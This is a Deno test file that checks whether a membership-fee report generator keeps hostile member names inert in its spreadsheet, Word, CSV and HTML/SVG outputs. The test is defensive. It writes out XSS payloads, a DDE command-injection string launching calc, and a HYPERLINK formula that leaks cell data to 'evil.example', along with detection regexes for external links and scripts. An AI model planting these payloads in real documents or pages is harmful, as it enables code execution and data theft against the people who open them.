import assert from "node:assert/strict";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { csvParse } from "d3-dsv";
import { strFromU8, unzipSync } from "fflate";
import { type FeeData, loadFeeData } from "../data/fee_data.ts";
import { temporaryFolder } from "../data/temporary_fixtures.ts";
import { feeInput } from "../fees/fee_basis.ts";
import { allocateMemberFees } from "../fees/member_fees.ts";
import { CHROMIUM, startChromium } from "../figures/chromium_fixtures.ts";
import { feeFigures } from "../figures/fees/fee_figures_fixtures.ts";
import { memberFeeTable } from "./fees/fee_table.ts";
import { galleryPage } from "./gallery.ts";
import { readPackedContent } from "./packed/packed_content.ts";
import type { OutputTable } from "./output_table.ts";
import { writeContent } from "./pack_content.ts";
import { drawPrintPictures } from "./print_pictures.ts";
import type { TextBlock } from "./text/text_block.ts";
import { writeReport } from "./document/write_report.ts";
import { writeWorkbook } from "./workbook/write_workbook.ts";

const ID = { forbund: "rar", year: 2025, scenario: "bas" };

/** Names that would run, break out, mislead or choke, if they were let. */
const NAMES = [
  "<script>window.ran = 1</script>",
  '"><img src=x onerror="window.ran=1">',
  "]]></text><svg onload='window.ran=1'/>",
  '=HYPERLINK("http://evil.example/"&A1)',
  "+cmd|' /C calc'!A0",
  "@SUM(1;2)",
  "\t=1+1",
  "javascript:window.ran=1",
  "&lt;b&gt;&#0;\u0000\u0008",
  "\u202Egnp.exe\u2067",
  "👩‍👩‍👧‍👦".repeat(9),
  "__proto__",
  "å".repeat(200), // The longest that a member may be called.
  "\uD800 halv",
];

/** What a cell or a text may hold beside that. */
const TEXTS = [...NAMES, "å".repeat(10_000)];

/** A pack of fees whose members have hostile names, in a folder for a test. */
async function withHostilePack(
  test: (folder: string) => Promise<void>,
): Promise<void> {
  await using temporary = await temporaryFolder();
  const folder = temporary.path;
  const data = renamed(await loadFeeData("rar"));
  const figures = feeFigures(data, 2025);
  const fees = allocateMemberFees(feeInput(data, 2025));
  const tables = [memberFeeTable(data, fees), hostileTable()];
  const texts = [hostileText()];
  await writeContent({ figures, tables, texts }, folder);
  await drawPrintPictures(folder, `${folder}/former`);
  const content = await readPackedContent(folder);
  await writeWorkbook(folder, ID, content);
  await writeReport(folder, ID, content);
  const notebook = { name: NAMES[0]!, figures: [...content.figures.keys()] };
  const pack = { forbund: "rar", name: NAMES[1]!, figures: content.figures };
  await Deno.writeTextFile(
    join(folder, "galleri.html"),
    await galleryPage([notebook], [pack]),
  );
  await test(folder);
}

/** Each member with a hostile name, the municipalities first. */
function renamed(data: FeeData): FeeData {
  const members = data.forbund.members.map((member, at) => ({
    ...member,
    name: NAMES[at % NAMES.length]!,
  }));
  const [name, shortName] = [NAMES[0]!, NAMES[3]!];
  return { ...data, forbund: { ...data.forbund, name, shortName, members } };
}

/** What texts and tables rest on, from documents with hostile names. */
const HOSTILE_PROVENANCE = {
  sources: TEXTS,
  inputs: TEXTS.map((path) => ({ path, sha256: null })),
  parameters: [],
  synthetic: false,
  disclosure: NAMES[0]!,
};

/** A table with hostile heads, cells, note and sources. */
function hostileTable(): OutputTable {
  return {
    ...HOSTILE_PROVENANCE,
    id: "fientlig",
    title: NAMES[0]!,
    note: NAMES[3]!,
    columns: TEXTS.map((title, at) => ({ name: `c${at}`, title })),
    rows: TEXTS.map((_, row) =>
      Object.fromEntries(TEXTS.map((_, at) => [
        `c${at}`,
        TEXTS[(row + at) % TEXTS.length]!,
      ]))
    ),
  };
}

/** A text with hostile title, lead and paragraphs. */
function hostileText(): TextBlock {
  const [title, lead] = [NAMES[1]!, NAMES[0]!];
  const id = "fientlig";
  return { ...HOSTILE_PROVENANCE, id, title, lead, paragraphs: TEXTS };
}

Deno.test("hostile names run nothing in picture, page, Word or spreadsheet", async () => {
  await withHostilePack(async (folder) => {
    await assertInertWorkbook(join(folder, "tabeller.xlsx"));
    await assertInertWord(join(folder, "behovsanalys.docx"));
    await assertInertCsv(join(folder, "tables", "medlemsavgifter.csv"));
    await assertInertCsv(join(folder, "tables", "fientlig.csv"));
    if (!CHROMIUM) return; // Which chromium_fixtures.ts has said.
    const pages = ["behovsanalys.html", "galleri.html"];
    for await (const { name } of Deno.readDir(join(folder, "figures"))) {
      if (name.endsWith(".svg")) pages.push(`figures/${name}`);
    }
    assert.equal(pages.length, 9);
    await assertInertPages(pages.map((page) => join(folder, page)));
  });
});

async function assertInertWorkbook(file: string): Promise<void> {
  for (
    const [path, bytes] of Object.entries(unzipSync(await Deno.readFile(file)))
  ) {
    const xml = strFromU8(bytes);
    assert.doesNotMatch(xml, /<f[ >]|<hyperlink|TargetMode="External"/, path);
    assert.doesNotMatch(xml, /vbaProject|externalLink/, path);
  }
}

async function assertInertWord(file: string): Promise<void> {
  const parts = unzipSync(await Deno.readFile(file));
  for (const [path, bytes] of Object.entries(parts)) {
    if (!/\.(xml|rels)$/.test(path)) continue;
    const xml = strFromU8(bytes);
    assert.doesNotMatch(xml, /TargetMode="External"|<w:object|oleObject/, path);
    const fields = xml.matchAll(/<w:instrText[^>]*>([^<]*)</g);
    for (const [, field] of fields) {
      assert.match(field!, /^\s*(TOC|PAGE|NUMPAGES|SEQ|REF|PAGEREF)\b/, path);
    }
  }
}

async function assertInertCsv(file: string): Promise<void> {
  const rows = csvParse(await Deno.readTextFile(file));
  const cells = rows.flatMap((row) => Object.values(row));
  assert.ok(cells.some((cell) => cell.startsWith("'=HYPERLINK")));
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r]|^-\D/);
}

/** Opens each page as a browser does, scripts and all. */
async function assertInertPages(files: readonly string[]): Promise<void> {
  const browser = await startChromium();
  try {
    const page = await browser.newPage();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    page.on("dialog", (dialog) => asked.push(dialog.message()));
    for (const file of files) {
      asked.length = 0;
      const url = pathToFileURL(file).href;
      await page.goto(url);
      const found = await page.evaluate<number>(
        "document.querySelectorAll('script, iframe, object, embed, " +
          "foreignObject, parsererror, [onload], [onerror], [href^=javascript]')" +
          ".length + (window.ran ?? 0)",
      );
      assert.equal(found, 0, file);
      const foreign = asked.filter((each) =>
        each !== url && !/^data:/.test(each)
      );
      assert.deepEqual(foreign, [], file);
    }
  } finally {
    await browser.close();
  }
}
